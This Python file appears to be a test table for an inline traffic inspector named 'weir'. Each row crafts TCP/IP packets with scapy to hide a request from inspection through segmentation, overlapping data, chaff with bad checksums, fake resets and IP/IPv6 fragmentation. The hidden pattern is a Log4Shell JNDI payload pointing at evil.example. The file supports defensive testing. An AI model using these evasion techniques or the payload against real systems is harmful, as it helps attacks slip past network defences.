# SPDX-License-Identifier: BSD-3-Clause
"""Ways to show an inspector other bytes than the server reads, as a table: each row a function that
lets a client send a request with PATTERN in it. After Ptacek and Newsham (1998), Handley and Paxson
(2001), SymTCP (2020), Themis (2021) and Geneva.

`found`: the pattern's bytes are what a server must read, so an inspector has to see them. Otherwise
the trick spoils the request, and it is enough that nobody gets the pattern. In no row may the
pattern reach the server's application through weir.
"""
import logging

logging.getLogger("scapy").setLevel(logging.ERROR)
# pylint: disable=wrong-import-position
from scapy.all import (IP, TCP, Ether, IPv6, IPv6ExtHdrDestOpt, IPv6ExtHdrFragment,  # noqa: E402
                       PadN, Raw, fragment, raw)

PATTERN = b"${jndi:ldap://evil.example/a}"
HEAD = b"GET / HTTP/1.1\r\nUser-Agent: "
TAIL = b"\r\n\r\n"
REQUEST = HEAD + PATTERN + TAIL
BENIGN = HEAD + b"x" * len(PATTERN) + TAIL  # as long
MIDDLE = len(HEAD) + 4                      # within the pattern, before any rule has seen enough
PORT = 8080
TS_START = 1_000_000

ROWS = []


class Row:
    def __init__(self, function, found=True, v6=False, isn=1_000_000, may_be_refused=False):
        self.function = function
        self.name = function.__name__.replace("_", " ")
        self.found = found
        self.v6 = v6
        self.isn = isn
        self.may_be_refused = may_be_refused  # whether weir may drop it before it is TCP
        self.sport = 41000 + len(ROWS)


def row(**how):
    def register(function):
        ROWS.append(Row(function, **how))
        return function

    return register


class Client:
    """Builds the frames of one connection; how they travel is a subclass's: transmit(frame) and
    answer(), which gives the server's sequence number and timestamp of its SYN-ACK."""

    def __init__(self, r, net):
        self.row = r
        self.net = net  # {"src_mac", "dst_mac", "src", "dst"}
        self.sport = r.sport
        self.isn = r.isn
        self.peer = self.peer_ts = None
        self.ts = None

    def frame(self, tcp, ip=None):
        header = (IPv6 if self.row.v6 else IP)(src=self.net["src"], dst=self.net["dst"],
                                               **(ip or {}))
        return Ether(src=self.net["src_mac"], dst=self.net["dst_mac"]) / header / tcp

    def tcp(self, seq, flags, data=b"", options=(), **over):
        if self.ts is not None:
            options = [("NOP", None), ("NOP", None),
                       ("Timestamp", (over.pop("ts", self.ts), self.peer_ts or 0)), *options]
        fields = {"sport": self.sport, "dport": PORT, "seq": seq % 2**32, "flags": flags,
                  "ack": ((self.peer or 0) + 1) % 2**32 if "A" in flags else 0, "window": 65535,
                  "options": list(options), **over}
        tcp = TCP(**fields)
        return tcp / Raw(data) if data else tcp

    def open(self, syn_data=b"", ack_data=b"", syn_options=(), timestamps=False):
        if timestamps:
            self.ts = TS_START
        self.transmit(self.frame(self.tcp(self.isn, "S", syn_data,
                                          [("MSS", 1460), *syn_options])))
        self.peer, self.peer_ts = self.answer()
        self.transmit(self.frame(self.tcp(self.isn + 1, "PA" if ack_data else "A", ack_data)))

    def send(self, at, data=b"", flags="PA", ip=None, **over):
        """A segment whose data stand at this offset of the stream."""
        self.transmit(self.segment(at, data, flags, ip, **over))

    def segment(self, at, data=b"", flags="PA", ip=None, **over):
        return self.frame(self.tcp(self.isn + 1 + at, flags, data, **over), ip)

    def request(self, data=REQUEST, begin=0, end=None):
        """A part of the request, where it belongs."""
        self.send(begin, data[begin:end])

    def broken(self, at, data, field="chksum"):
        """A segment whose checksum in a header is wrong."""
        frame = Ether(raw(self.segment(at, data)))
        layer = frame[TCP] if field == "chksum" else frame[IP]
        layer.chksum ^= 0x5555
        self.transmit(frame)


# ---- cut and reordered ----


@row()
def nothing_is_hidden(c):
    c.open()
    c.request()


@row()
def cut_in_two(c):
    c.open()
    c.request(end=MIDDLE)
    c.request(begin=MIDDLE)


@row()
def one_byte_segments(c):
    c.open()
    for i in range(len(REQUEST)):
        c.request(begin=i, end=i + 1)


@row()
def one_byte_segments_in_reverse(c):
    c.open()
    for i in reversed(range(len(REQUEST))):
        c.request(begin=i, end=i + 1)


@row()
def every_other_byte_first(c):
    c.open()
    for first in (1, 0):
        for i in range(first, len(REQUEST), 2):
            c.request(begin=i, end=i + 1)


@row()
def the_second_half_first(c):
    c.open()
    c.request(begin=MIDDLE)
    c.request(end=MIDDLE)


@row(isn=2**32 - 40)
def numbers_wrap_within_the_pattern(c):
    c.open()
    for i in range(0, len(REQUEST), 3):
        c.request(begin=i, end=i + 3)


@row()
def data_without_push(c):
    c.open()
    for i in range(0, len(REQUEST), 5):
        c.send(i, REQUEST[i:i + 5], flags="A")


@row()
def much_comes_again(c):
    c.open()
    for i in range(0, len(REQUEST), 4):
        c.request(begin=max(0, i - 7), end=i + 4)


# ---- overlaps whose copies differ ----


@row(found=False)
def harmless_first_then_the_pattern_in_its_place(c):
    c.open()
    c.request(BENIGN)
    c.request()


@row()
def the_pattern_first_then_harmless_in_its_place(c):
    c.open()
    c.request()
    c.request(BENIGN)


@row(found=False)
def behind_a_gap_harmless_then_the_pattern(c):
    c.open()
    c.request(BENIGN, begin=5)
    c.request(begin=5)
    c.request(end=5)


@row()
def behind_a_gap_the_pattern_then_harmless(c):
    c.open()
    c.request(begin=5)
    c.request(BENIGN, begin=5)
    c.request(end=5)


@row(found=False)
def an_overlap_at_the_left_edge(c):
    c.open()
    c.request(BENIGN, begin=MIDDLE)
    c.request(end=MIDDLE + 5)
    c.request(begin=MIDDLE)


@row(found=False)
def an_overlap_at_the_right_edge(c):
    c.open()
    c.request(BENIGN, begin=5, end=MIDDLE)
    c.request(begin=MIDDLE - 5)
    c.request(end=MIDDLE)


@row(found=False)
def a_large_one_over_small_ones(c):
    c.open()
    for i in range(5, len(REQUEST), 6):
        c.request(BENIGN, begin=i, end=i + 3)
    c.request(begin=5)
    c.request(end=5)


@row(found=False)
def small_ones_over_a_large_one(c):
    c.open()
    c.request(BENIGN, begin=5)
    for i in range(5, len(REQUEST), 3):
        c.request(begin=i, end=i + 3)
    c.request(end=5)


@row()
def a_segment_that_begins_before_the_stream(c):
    c.open()
    c.send(-6, b"!!!!!!" + REQUEST)


@row()
def a_keep_alive_byte_that_differs(c):
    c.open()
    c.request(end=MIDDLE)
    c.send(MIDDLE - 1, b"!", flags="A")
    c.request(begin=MIDDLE)


# ---- chaff that a server does not take ----


def chaff(name, found=True, **how):
    """Harmless bytes where the pattern goes, in segments that the server throws away."""
    def register(send_chaff):
        def function(c):
            c.open()
            c.request(end=MIDDLE)
            send_chaff(c, MIDDLE, BENIGN[MIDDLE:])
            c.request(begin=MIDDLE)

        function.__name__ = name
        ROWS.append(Row(function, found, **how))
        return send_chaff

    return register


@chaff("chaff_with_a_wrong_tcp_checksum")
def _(c, at, data):
    c.broken(at, data)


@chaff("chaff_with_a_wrong_ip_checksum")
def _(c, at, data):
    c.broken(at, data, "ip")


@chaff("chaff_with_a_data_offset_too_small")
def _(c, at, data):
    c.send(at, data, dataofs=4)


@chaff("chaff_with_a_data_offset_beyond_the_end")
def _(c, at, _data):
    c.send(at, b"x", dataofs=15)


@chaff("chaff_that_acknowledges_what_was_not_sent")
def _(c, at, data):
    c.send(at, data, ack=(c.peer + 100_000) % 2**32)


@chaff("chaff_that_acknowledges_what_is_long_past")
def _(c, at, data):
    c.send(at, data, ack=(c.peer - 2**30) % 2**32)


@chaff("chaff_without_ack")
def _(c, at, data):
    c.send(at, data, flags="P")


@chaff("chaff_without_flags")
def _(c, at, data):
    c.send(at, data, flags="")


@chaff("chaff_with_all_flags")
def _(c, at, data):
    c.send(at, data, flags="FSRPAU")


@chaff("chaff_with_syn_and_fin")
def _(c, at, data):
    c.send(at, data, flags="SF")


@chaff("chaff_outside_the_window")
def _(c, at, data):
    c.send(at + 2**30, data)
    c.send(at - 2**30, data)


@chaff("chaff_that_expires_on_the_way", found=False)
def _(c, at, data):
    c.send(at, data, ip={"ttl": 1})


@chaff("chaff_with_a_signature_nobody_asked_for", found=False)
def _(c, at, data):
    c.send(at, data, options=[(19, b"\0" * 16), ("NOP", None), ("NOP", None)])


def with_timestamps(c, *stamps):
    """Harmless bytes with these timestamps, between halves of the request with good ones."""
    c.open(timestamps=True)
    c.ts = TS_START + 10
    c.request(end=MIDDLE)
    for stamp in stamps:
        c.send(MIDDLE, BENIGN[MIDDLE:], ts=stamp % 2**32)
    c.ts = TS_START + 20
    c.request(begin=MIDDLE)


@row()
def chaff_with_an_old_timestamp(c):
    with_timestamps(c, TS_START - 1000)


@row()
def chaff_with_timestamps_half_a_circle_away(c):
    with_timestamps(c, TS_START + 10 + 2**31, TS_START + 11 + 2**31)


# ---- resets, ends and beginnings that are none ----


@chaff("a_reset_with_a_wrong_checksum")
def _(c, at, _data):
    frame = Ether(raw(c.segment(at, flags="R")))
    frame[TCP].chksum ^= 0x5555
    c.transmit(frame)


@chaff("a_reset_outside_the_window")
def _(c, at, _data):
    c.send(at + 2**30, flags="R")


@chaff("a_reset_not_at_the_next_number")
def _(c, at, _data):
    c.send(at + 100, flags="R")


@chaff("a_reset_that_expires_on_the_way", found=False)
def _(c, at, _data):
    c.send(at, flags="R", ip={"ttl": 1})


@chaff("a_fin_with_a_wrong_checksum")
def _(c, at, _data):
    frame = Ether(raw(c.segment(at, flags="FA")))
    frame[TCP].chksum ^= 0x5555
    c.transmit(frame)


@chaff("a_fin_outside_the_window")
def _(c, at, _data):
    c.send(at + 2**30, flags="FA")


@chaff("a_fin_before_the_rest", found=False)
def _(c, at, _data):
    c.send(at, flags="FA")


@chaff("fin_and_reset_at_once", found=False)
def _(c, at, _data):
    c.send(at, flags="FRA")


@chaff("a_syn_in_the_midst")
def _(c, at, _data):
    c.send(at, flags="S")


@chaff("a_syn_in_the_midst_from_elsewhere")
def _(c, _at, _data):
    c.transmit(c.frame(c.tcp(c.isn + 500_000, "S")))


@chaff("a_syn_ack_from_the_client")
def _(c, at, _data):
    c.send(at, flags="SA")


@row()
def a_reset_before_the_handshake_is_done(c):
    c.transmit(c.frame(c.tcp(c.isn + 77, "R")))
    c.open()
    c.request()


@row()
def the_tuple_is_used_again(c):
    c.open()
    c.request(BENIGN)
    c.send(len(BENIGN), flags="RA")
    c.isn += 200_000
    c.open()
    c.request()


@row()
def the_tuple_is_used_again_with_lower_numbers(c):
    c.open()
    c.request(BENIGN)
    c.send(len(BENIGN), flags="RA")
    c.isn -= 200_000
    c.open()
    c.request()


# ---- data where none are looked for ----


@row()
def data_with_the_syn_again_afterwards(c):
    c.open(syn_data=REQUEST[:MIDDLE])
    c.request()


@row(found=False)
def data_with_the_syn_alone(c):
    c.open(syn_data=REQUEST)


@row(found=False)
def other_data_with_the_syn(c):
    c.open(syn_data=BENIGN[:MIDDLE])
    c.request(begin=MIDDLE)


@row()
def fast_open_data(c):
    c.open(syn_data=REQUEST, syn_options=[(34, b"\x11" * 8), ("NOP", None), ("NOP", None)])
    c.request()


@row()
def data_with_the_third_segment(c):
    c.open(ack_data=REQUEST[:MIDDLE])
    c.request(begin=MIDDLE)


@row()
def an_urgent_byte_within_the_pattern(c):
    c.open()
    c.request(end=MIDDLE)
    c.send(MIDDLE, REQUEST[MIDDLE:MIDDLE + 1], flags="PAU", urgptr=1)
    c.request(begin=MIDDLE + 1)


@row(found=False)
def an_urgent_byte_too_much_within_the_pattern(c):
    """Whoever leaves urgent bytes out reads the pattern."""
    data = REQUEST[:MIDDLE] + b"!" + REQUEST[MIDDLE:]
    c.open()
    c.send(0, data[:MIDDLE])
    c.send(MIDDLE, data[MIDDLE:MIDDLE + 1], flags="PAU", urgptr=1)
    c.send(MIDDLE + 1, data[MIDDLE + 1:])


@row()
def an_urgent_pointer_beyond_the_data(c):
    c.open()
    c.send(0, REQUEST, flags="PAU", urgptr=5000)


@row()
def unknown_options(c):
    c.open(syn_options=[(200, b"abcdef"), (253, b"\x12\x34")])
    for i in range(0, len(REQUEST), 8):
        c.send(i, REQUEST[i:i + 8], options=[(200, b"abcdef")])


# ---- IP ----


def pieces(frame, size):
    return fragment(Ether(raw(frame)), fragsize=size)


@row()
def in_ip_fragments(c):
    c.open()
    for piece in pieces(c.segment(0, REQUEST), 24):
        c.transmit(piece)


@row()
def in_ip_fragments_in_reverse(c):
    c.open()
    for piece in reversed(pieces(c.segment(0, REQUEST), 24)):
        c.transmit(piece)


@row(may_be_refused=True)
def a_first_fragment_of_eight_bytes(c):
    c.open()
    for piece in pieces(c.segment(0, REQUEST), 8):
        c.transmit(piece)


@row(found=False)
def fragments_that_overlap(c):
    c.open()
    good, bad = (pieces(c.segment(0, data), 32) for data in (REQUEST, BENIGN))
    for piece in (bad[1], good[1], good[0], *good[2:]):
        c.transmit(piece)


@row(found=False)
def fragments_of_which_one_never_comes(c):
    c.open()
    for piece in pieces(c.segment(0, REQUEST), 32)[:-1]:
        c.transmit(piece)


@row(v6=True)
def over_ipv6_cut_in_two(c):
    c.open()
    c.request(end=MIDDLE)
    c.request(begin=MIDDLE)


def behind(c, at, data, *headers):
    packet = IPv6(src=c.net["src"], dst=c.net["dst"])
    for header in headers:
        packet /= header
    c.transmit(Ether(src=c.net["src_mac"], dst=c.net["dst_mac"]) / packet /
               c.tcp(c.isn + 1 + at, "PA", data))


@row(v6=True, may_be_refused=True)
def behind_destination_options(c):
    c.open()
    behind(c, 0, REQUEST, IPv6ExtHdrDestOpt(options=[PadN(optdata=b"\0" * 4)]),
           IPv6ExtHdrDestOpt(options=[PadN(optdata=b"\0" * 4)]))


@row(v6=True, may_be_refused=True)
def in_an_atomic_fragment(c):
    c.open()
    behind(c, 0, REQUEST, IPv6ExtHdrFragment(id=77))
